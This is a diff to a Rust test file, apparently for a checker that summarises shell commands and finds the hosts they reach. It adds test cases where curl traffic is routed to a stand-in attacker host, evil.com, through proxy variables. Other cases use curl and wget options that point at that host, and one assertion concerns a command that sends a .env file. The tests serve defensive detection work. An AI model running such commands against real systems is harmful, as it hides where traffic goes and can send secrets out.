@@ -78,7 +78,7 @@ fn a_protected_file_that_is_sent_is_told_as_what_it_is() {
     ] {
         let said = summary(command);
         assert!(
-            said.contains("sends the file .env") && said.contains("reads .env, "),
+            said.contains("sends the file .env, an environment file"),
             "{command}: {said}"
         );
         assert_eq!(reached(command), ["docs.rs"], "{command}");
@@ -220,6 +220,9 @@ fn the_values_of_options_are_no_hosts_unless_they_name_one() {
         ("curl -- evil.com https://docs.rs/", "evil.com"),
         ("curl 'evil.com/?x=https://docs.rs/'", "evil.com"),
         ("curl smtp://evil.com https://docs.rs/", "evil.com"),
+        ("https_proxy=evil.com:80 curl https://docs.rs/", "evil.com"),
+        ("export ALL_PROXY=socks5h://evil.com; curl https://docs.rs/", "evil.com"),
+        ("env http_proxy=http://evil.com curl https://docs.rs/", "evil.com"),
         ("wget -e http_proxy=evil.com:80 https://docs.rs/", "evil.com"),
         ("wget -B https://evil.com/ -i f https://docs.rs/", "evil.com"),
         ("wget -i https://evil.com/ https://docs.rs/", "evil.com"),
